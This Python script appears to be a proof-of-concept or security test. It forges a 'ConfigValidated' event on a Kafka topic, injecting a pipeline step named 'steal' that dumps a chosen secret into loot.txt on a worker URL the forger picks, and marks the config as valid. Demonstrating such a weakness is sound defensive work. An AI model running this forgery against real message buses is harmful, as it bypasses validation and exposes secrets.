#!/usr/bin/env python3
"""forge_validated.py: publishes a hand-made ConfigValidated, as any client allowed to write to
acms.config.validated could: one step whose environment reads the given secret reference, and an
environment copy that allows exactly that reference and names a worker of the forger's choosing.
Prints the run id. Usage: forge_validated.py --gen DIR --brokers B --run-id ID --ref REF --worker URL
"""
import argparse
import sys
import time
import uuid


def main():
    ap = argparse.ArgumentParser()
    for a in ("--gen", "--brokers", "--run-id", "--ref", "--worker"):
        ap.add_argument(a, required=True)
    a = ap.parse_args()
    sys.path.insert(0, a.gen)
    from confluent_kafka import Producer
    from acms.v1 import validation_pb2

    ev = validation_pb2.ConfigValidated()
    ev.meta.event_id = str(uuid.uuid4())
    ev.meta.run_id = a.run_id
    ev.meta.schema_version = 1
    ev.meta.timestamp_ms = int(time.time() * 1000)
    ev.meta.source = "forger"
    p = ev.runtime.pipeline
    p.name = "forged"
    s = p.steps.add()
    s.name = "steal"
    s.type = "processing"
    s.command.extend(["sh", "-c", "echo \"$LOOT\" > loot.txt"])
    v = s.env.add()
    v.name = "LOOT"
    v.value = a.ref
    env = ev.runtime.environment
    env.name = "dev"
    env.executor = "http"
    env.worker_url = a.worker
    env.secret_scopes.append(a.ref)
    ev.runtime.metadata.environment = "dev"
    ev.result.valid = True
    prod = Producer({"bootstrap.servers": a.brokers})
    prod.produce("acms.config.validated", key=a.run_id, value=ev.SerializeToString())
    if prod.flush(30) != 0:
        sys.exit("forge_validated.py: not delivered")
    print(a.run_id)


if __name__ == "__main__":
    main()
